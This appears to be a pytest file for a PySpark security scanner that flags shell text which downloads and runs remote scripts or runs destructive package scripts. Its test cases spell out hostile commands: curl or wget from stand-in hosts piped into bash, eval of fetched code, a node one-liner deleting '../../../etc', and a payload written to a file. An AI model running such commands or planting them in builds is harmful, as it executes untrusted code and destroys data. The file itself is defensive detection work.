"""Shell texts with what is to be found in them, written down apart from the patterns."""

import time

import pytest
from pyspark.sql import functions as F

from sparkwarden.operators import shell
from sparkwarden.sources.samples import DOWNLOADS, E

@pytest.fixture(scope="module")
def judged(spark):
    rows = [(k, t) for k, (_, t) in enumerate(DOWNLOADS)]
    out = shell.with_download(spark.createDataFrame(rows, "k int, text string").repartition(3), "text")
    return {r["k"]: r["download"] for r in out.collect()}


def test_downloads_that_are_run(judged):
    wrong = [t for k, (want, t) in enumerate(DOWNLOADS) if (judged[k] and judged[k]["line"]) != want]
    assert not wrong


def test_line_and_snippet(spark):
    text = "FROM x\nRUN echo dir\\\\\nRUN apt-get update && apt-get install -y " + "package-name " * 30 + f"&& curl https://evil.{E}/x | bash\nRUN curl https://late.{E}/x | bash"
    r = shell.with_download(spark.createDataFrame([(text,)], "text string"), "text").collect()[0]["download"]
    assert r["line"] == 3 and f"evil.{E}" in r["snippet"] and "late" not in r["snippet"]


def test_own_addresses_count_as_known(spark):
    rows = spark.createDataFrame([(f"curl https://RAW.{E}/o/r/main/i.sh | sh",), (f"curl https://raw.{E}/o/other/i.sh | sh",)], "text string")
    own = F.array(F.lit(f"https://raw.{E}/o/r/"))
    assert [r["download"] is None for r in shell.with_download(rows, "text", own).collect()] == [True, False]


SCRIPTS = [
    (True, f"bash <(curl -s http://drop.{E}/i.sh)"),
    (True, f'sh -c "$(wget -qO- http://drop.{E}/i.sh)"'),
    (False, "node scripts/copy-assets.js"),
    (False, "node -e \"require('node:fs').rmSync('dist', { recursive: true, force: true })\""),
    (False, "node -e \"require('node:fs').rmSync('dist', { recursive: true, force: true })\" && tsc -p tsconfig.build.json"),
    (False, "node -e \"require('fs').existsSync('./dist')\""),
    (False, 'node -e "process.exit(process.env.CI ? 0 : 1)"'),
    (False, "node -e \"try { require('child_process').execSync('husky install') } catch (e) {}\""),
    (False, "node -e \"if (process.env.CI) { console.log('\\u001b[31m hi eval()') }\""),
    (True, f"node -e \"require('child_process').execSync('curl http://e.{E}/p|sh')\""),
    (True, "node -e \"require('node:fs').rmSync('../../../etc', { recursive: true })\""),
    (True, "node -e \"require('node:fs').writeFileSync('a.sh', atob(x))\""),
    (True, f"node -e \"require('node:fs').rmSync('dist')\" && curl http://e.{E}/p | sh"),
    (False, "curl -LsSf https://astral.sh/uv/install.sh | sh"),
    (False, 'eval "$(mise activate bash)"'),
    (True, 'eval "$(curl x)"'),
    (False, 'start-server-and-test dev http://localhost:3000 "npx cypress open"'),
    (True, "nohup node x.js &"),
]


def test_dangerous_scripts(spark):
    rows = spark.createDataFrame([(k, t) for k, (_, t) in enumerate(SCRIPTS)], "k int, text string")
    got = {r["k"]: r["d"] for r in rows.select("k", shell.dangerous_script(F.col("text")).alias("d")).collect()}
    assert [t for k, (want, t) in enumerate(SCRIPTS) if got[k] != want] == []


def test_checked_in_programs(spark):
    rows = spark.createDataFrame([("node .init.js",), ("go run ./hack/cmd/format",), ("npx @a/server ./docs",), ("./node_modules/.bin/oxfmt",), ("a; ./run it",), ("node dist/setup.js --x ../y.js /z.js",)], "c string")
    got = [(r["r"], r["p"]) for r in rows.select(shell.runs_checked_in(F.col("c")).alias("r"), shell.programs(F.col("c")).alias("p")).collect()]
    assert [g[0] for g in got] == [True, False, False, False, True, True]
    assert got[0][1] == [".init.js"] and got[5][1] == ["dist/setup.js"] and got[4][1] == ["run"]


@pytest.mark.parametrize("shape", ["RUN curl y \\\n", "curl -o a.sh u\n", "curl x ", "`curl \"'", "sh a.sh ./", "cat <<E\ncurl\n", "echo curl a ", "\\", "curl|"])
def test_hostile_shell_text_ends_soon(spark, shape):
    text = (shape * (400_000 // len(shape) + 1))[:400_000]
    began = time.time()
    shell.with_download(spark.createDataFrame([(text,)], "text string"), "text").collect()
    assert time.time() - began < 15
